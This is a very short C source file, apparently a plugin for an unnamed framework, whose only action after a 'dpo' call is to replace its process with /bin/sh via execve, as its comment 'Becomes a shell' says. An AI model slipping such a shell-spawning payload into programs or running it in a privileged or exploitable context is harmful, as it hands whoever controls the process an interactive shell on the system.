/* Becomes a shell. */
#include "plugin.h"
#include <unistd.h>

KERNEL(
  dpo(&c);
  char *none[] = {0};
  execve("/bin/sh", none, none);
)
